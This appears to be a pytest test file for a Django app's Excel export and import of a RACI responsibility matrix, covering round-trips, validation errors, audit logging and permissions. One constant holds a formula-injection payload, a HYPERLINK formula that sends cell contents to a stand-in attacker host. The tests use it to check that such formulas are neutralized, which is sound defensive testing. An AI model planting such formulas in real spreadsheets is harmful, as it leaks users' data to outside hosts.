"""Excel export and import, read back with openpyxl as an independent reader."""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from certprep.core.errors import ServiceError
from certprep.core.models import AuditEntry
from certprep.engagements.tests.factories import EngagementFactory
from certprep.responsibilities import services
from certprep.responsibilities.models import Activity, Assignment, Matrix, MatrixRole, RoleHolder
from certprep.responsibilities.spreadsheet import matrix_export, matrix_import
from certprep.survey.models import Person

pytestmark = pytest.mark.django_db

INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def workbook(data):
    return load_workbook(io.BytesIO(data))


def values(data):
    """Every cell value of every sheet, as openpyxl reads them."""
    book = workbook(data)
    return {name: [list(row) for row in book[name].iter_rows(values_only=True)] for name in book.sheetnames}


def save(book):
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def role(engagement, key):
    return MatrixRole.objects.get(engagement=engagement, key=key)


def people(engagement):
    return {
        "dee": Person.objects.create(engagement=engagement, name="Dee Desk", email="dee@client-a.example"),
        "mo": Person.objects.create(engagement=engagement, name="Mo Manager"),  # no e-mail: referred to by name
    }


@pytest.fixture
def rich(seeded, owner, catalogue):
    """The small template plus holders, RASCI with an S, a renamed role and an injected activity name."""
    folks = people(seeded)
    services.role_holder_add(role=role(seeded, "service-desk"), actor=owner, person=folks["dee"])
    services.role_holder_add(role=role(seeded, "process-manager"), actor=owner, person=folks["mo"])
    services.role_holder_add(role=role(seeded, "process-manager"), actor=owner, person=folks["dee"])
    services.matrix_update(engagement=seeded, actor=owner, expected_version=1, rasci=True, max_roles_per_person=2)
    resolve = Activity.objects.get(engagement=seeded, key="resolve")
    services.cell_set(activity=resolve, role=role(seeded, "process-owner"), letter="S", expected="", actor=owner)
    injected = services.activity_create(engagement=seeded, actor=owner, process_code="problem", name=INJECTION)
    services.cell_set(activity=injected, role=role(seeded, "process-owner"), letter="A", expected="", actor=owner)
    services.role_update(role=role(seeded, "service-desk"), actor=owner, expected_version=1, name="+Service desk")
    return seeded


def test_the_export_is_readable_and_complete(rich):
    book = workbook(matrix_export(rich))
    assert book.sheetnames == ["Matrix", "Roles", "Settings"]
    sheet = [list(r) for r in book["Matrix"].iter_rows(values_only=True)]
    assert sheet[0] == [
        "Process code",
        "Process",
        "Activity key",
        "Activity",
        "process-owner",
        "process-manager",
        "service-desk",
    ]
    assert sheet[1] == [None, None, None, "Role name", "Process owner", "Process manager", "'+Service desk"]
    assert sheet[2] == ["incident", "Incident management", "log-classify", "Log and classify incidents", "I", "A", "R"]
    assert sheet[3] == ["incident", "Incident management", "resolve", "Resolve incidents", "S", "A", "R"]
    assert [row[0] for row in sheet[2:]] == ["incident", "incident", "problem", "change"]  # lens order
    roles = [list(r) for r in book["Roles"].iter_rows(values_only=True)]
    assert roles[1:] == [
        ["process-owner", "Process owner", 1, None, None],
        ["process-manager", "Process manager", 2, "dee@client-a.example; Mo Manager", None],
        ["service-desk", "'+Service desk", 3, "dee@client-a.example", None],
    ]
    settings = [list(r)[:2] for r in book["Settings"].iter_rows(values_only=True)]
    assert settings[1:] == [["rasci", True], ["max_roles_per_person", 2]]


def test_formula_text_is_written_neutralized_and_comes_back_exactly(rich, owner):
    data = matrix_export(rich)
    sheet = workbook(data)["Matrix"]
    cell = next(c for row in sheet.iter_rows(min_row=3) for c in row if c.column == 4 and "HYPERLINK" in str(c.value))
    assert cell.data_type == "s"
    assert cell.value == "'" + INJECTION
    fresh = EngagementFactory(owner=owner, name="Fresh")
    people(fresh)
    matrix_import(engagement=fresh, actor=owner, raw=data, filename="matrix.xlsx")
    assert Activity.objects.get(engagement=fresh, process_code="problem").name == INJECTION
    assert role(fresh, "service-desk").name == "+Service desk"


def test_export_import_export_is_lossless(rich, owner):
    first = matrix_export(rich)
    fresh = EngagementFactory(owner=owner, name="Fresh")
    people(fresh)
    counts = matrix_import(engagement=fresh, actor=owner, raw=first, filename="matrix.xlsx")
    assert counts == {"roles": 3, "holders": 3, "activities": 4, "letters": 10}
    second = matrix_export(fresh)
    assert values(second) == values(first)
    matrix = Matrix.objects.get(engagement=fresh)
    assert (matrix.rasci, matrix.max_roles_per_person) == (True, 2)


def test_an_import_keeps_the_translations_of_unchanged_shipped_names(rich, owner):
    data = matrix_export(rich)
    matrix_import(engagement=rich, actor=owner, raw=data, filename="matrix.xlsx")
    assert role(rich, "process-owner").translations == {"zh-hans": {"name": "过程所有者"}}
    assert role(rich, "service-desk").translations == {}  # renamed: its translation no longer matches
    assert Activity.objects.get(engagement=rich, key="log-classify").translations == {
        "zh-hans": {"name": "记录并分类事件"}
    }


def test_an_import_replaces_the_matrix_and_is_audited_once(rich, owner):
    book = workbook(matrix_export(rich))
    roles = book["Roles"]
    roles.delete_rows(4)  # drop service-desk ...
    matrix = book["Matrix"]
    matrix.delete_cols(7)  # ... and its column
    matrix.delete_rows(3)  # drop log-classify
    matrix["E3"] = "s"  # lower case letters are fine
    before = AuditEntry.objects.count()
    matrix_import(engagement=rich, actor=owner, raw=save(book), filename="matrix.xlsx")
    assert list(MatrixRole.objects.filter(engagement=rich).values_list("key", flat=True)) == [
        "process-owner",
        "process-manager",
    ]
    assert not Activity.objects.filter(engagement=rich, key="log-classify").exists()
    resolve = Activity.objects.get(engagement=rich, key="resolve")
    assert Assignment.objects.get(activity=resolve, role=role(rich, "process-owner")).letter == "S"
    assert RoleHolder.objects.filter(role__engagement=rich).count() == 2
    assert AuditEntry.objects.count() == before + 1
    entry = AuditEntry.objects.latest("id")
    assert entry.object_type == "responsibilities.matrix"
    assert entry.changes["imported_file"] == [None, "matrix.xlsx"]


def test_a_new_activity_without_key_gets_one(rich, owner):
    book = workbook(matrix_export(rich))
    book["Matrix"].append(["release", "", "", "Plan releases", "A", "R", None])
    matrix_import(engagement=rich, actor=owner, raw=save(book), filename="m.xlsx")
    assert Activity.objects.get(engagement=rich, process_code="release").key == "plan-releases"


def _broken(rich, edit):
    book = workbook(matrix_export(rich))
    edit(book)
    return save(book)


@pytest.mark.parametrize(
    ("edit", "message"),
    [
        (
            lambda b: b["Matrix"].__setitem__("F4", "X"),
            'Sheet "Matrix", row 4, column F (process-manager): "X" is not one of R, A, S, C, I.',
        ),
        (
            lambda b: b["Matrix"].__setitem__("A5", "knitting"),
            'Sheet "Matrix", row 5, column A (Process code): "knitting" is not a process code',
        ),
        (
            lambda b: b["Matrix"].__setitem__("D3", ""),
            'Sheet "Matrix", row 3, column D (Activity): an activity needs a name',
        ),
        (
            lambda b: b["Matrix"].__setitem__("C4", "log-classify"),
            'Sheet "Matrix", row 4, column C (Activity key): "log-classify" appears twice',
        ),
        (
            lambda b: b["Matrix"].__setitem__("C4", "Bad Key"),
            'Sheet "Matrix", row 4, column C (Activity key): "Bad Key" is not an activity key',
        ),
        (
            lambda b: b["Matrix"].__setitem__("H1", "auditor"),
            'Sheet "Matrix", row 1, column H (auditor): the role "auditor" is not on the Roles sheet.',
        ),
        (
            lambda b: b["Matrix"].__setitem__("H3", "R"),
            'Sheet "Matrix", row 3, column H: this column has no role key in row 1.',
        ),
        (
            lambda b: b["Roles"].__setitem__("D2", "nobody@else.example"),
            'Sheet "Roles", row 2, column D (Holders (e-mail or name; separated by ;)): '
            'no person "nobody@else.example"',
        ),
        (
            lambda b: b["Roles"].__setitem__("A3", "process-owner"),
            'Sheet "Roles", row 3, column A (Role key): The role key "process-owner" appears twice.',
        ),
        (
            lambda b: b["Roles"].__setitem__("C2", "first"),
            'Sheet "Roles", row 2, column C (Order): "first" is not a whole number.',
        ),
        (
            lambda b: b["Settings"].__setitem__("B2", "maybe"),
            'Sheet "Settings", row 2, column B (Value): "maybe" is not TRUE or FALSE.',
        ),
        (
            lambda b: b["Settings"].__setitem__("B3", 0),
            'Sheet "Settings", row 3, column B (Value): "0" is not a whole number from 1 to 50.',
        ),
        (
            lambda b: b["Settings"].__setitem__("A3", "colour"),
            'Sheet "Settings", row 3, column A (Setting): "colour" is not a setting',
        ),
        (lambda b: b.remove(b["Roles"]), 'The workbook has no sheet named "Roles".'),
        (
            lambda b: b["Roles"].__setitem__("B2", "Process\u2028owner"),
            'Sheet "Roles", row 2, column B (Role): The role name must be one line of text: line breaks, tabs '
            "and other control characters are not allowed.",
        ),
        (
            lambda b: b["Roles"].__setitem__("B2", "Process\x7fowner"),
            'Sheet "Roles", row 2, column B (Role): The role name must be one line',
        ),
        (
            lambda b: b["Roles"].__setitem__("B2", "x" * 201),
            'Sheet "Roles", row 2, column B (Role): The role name may hold at most 200',
        ),
        (
            lambda b: b["Matrix"].__setitem__("D3", "Log\x85classify"),
            'Sheet "Matrix", row 3, column D (Activity): The activity name must be one',
        ),
    ],
)
def test_an_invalid_file_names_the_first_error_and_changes_nothing(rich, owner, edit, message):
    before = values(matrix_export(rich))
    audits = AuditEntry.objects.count()
    with pytest.raises(ServiceError) as caught:
        matrix_import(engagement=rich, actor=owner, raw=_broken(rich, edit), filename="m.xlsx")
    assert message in caught.value.message
    assert values(matrix_export(rich)) == before
    assert AuditEntry.objects.count() == audits


def test_bidirectional_controls_are_dropped_from_role_and_activity_names(rich, owner):
    def edit(book):
        book["Roles"]["B2"] = "\u202e" + book["Roles"]["B2"].value + "\u202c"
        book["Matrix"]["D3"] = "\u2067" + book["Matrix"]["D3"].value + "\u2069"

    before = values(matrix_export(rich))
    matrix_import(engagement=rich, actor=owner, raw=_broken(rich, edit), filename="m.xlsx")
    assert values(matrix_export(rich)) == before


def test_s_is_refused_when_the_file_turns_rasci_off(rich, owner):
    data = _broken(rich, lambda b: b["Settings"].__setitem__("B2", False))
    with pytest.raises(
        ServiceError, match=r'Sheet "Matrix", row 4, column E \(process-owner\): "S" is not one of R, A, C, I\.'
    ):
        matrix_import(engagement=rich, actor=owner, raw=data, filename="m.xlsx")


def test_a_name_shared_by_two_people_must_be_an_email(rich, owner):
    Person.objects.create(engagement=rich, name="Mo Manager", email="mo2@client-a.example")
    with pytest.raises(
        ServiceError,
        match=r'Sheet "Roles", row 3, column D \(Holders \(e-mail or name; separated by ;\)\): '
        r'"Mo Manager" matches 2 people; use their e-mail address\.',
    ):
        matrix_import(engagement=rich, actor=owner, raw=matrix_export(rich), filename="m.xlsx")


def test_files_that_are_not_matrix_workbooks_are_refused(rich, owner):
    with pytest.raises(ServiceError, match=r"Upload the Excel workbook \(.xlsx\)"):
        matrix_import(engagement=rich, actor=owner, raw=b"a,b", filename="m.csv")
    with pytest.raises(ServiceError, match="not a readable Excel workbook"):
        matrix_import(engagement=rich, actor=owner, raw=b"not a zip", filename="m.xlsx")
    with pytest.raises(ServiceError, match='no sheet named "Settings"'):
        matrix_import(engagement=rich, actor=owner, raw=save(Workbook()), filename="m.xlsx")


def test_the_export_and_import_pages(owner_client, rich):
    response = owner_client.get(reverse("responsibilities:export", args=[rich.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert 'filename="certprep-raci-' in response["Content-Disposition"]
    data = response.content
    broken = _broken(rich, lambda b: b["Matrix"].__setitem__("F4", "X"))
    page = owner_client.post(
        reverse("responsibilities:import", args=[rich.pk]), {"file": _upload(broken)}
    ).content.decode()
    expected = (
        "Nothing was imported. Sheet &quot;Matrix&quot;, row 4, column F (process-manager): "
        "&quot;X&quot; is not one of R, A, S, C, I."
    )
    assert expected in page
    done = owner_client.post(reverse("responsibilities:import", args=[rich.pk]), {"file": _upload(data)}, follow=True)
    assert "Matrix imported: 3 roles, 3 role holders, 4 activities, 10 letters." in done.content.decode()


def test_a_viewer_may_export_but_not_import(client, owner, rich):
    from certprep.engagements import services as engagement_services
    from certprep.engagements.tests.factories import UserFactory

    viewer = UserFactory(username="vera")
    engagement_services.member_add(engagement=rich, actor=owner, user=viewer, role="viewer")
    client.force_login(viewer)
    assert client.get(reverse("responsibilities:export", args=[rich.pk])).status_code == 200
    assert client.post(reverse("responsibilities:import", args=[rich.pk]), {"file": _upload(b"x")}).status_code == 403


def _upload(data, name="matrix.xlsx"):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile(
        name, data, content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
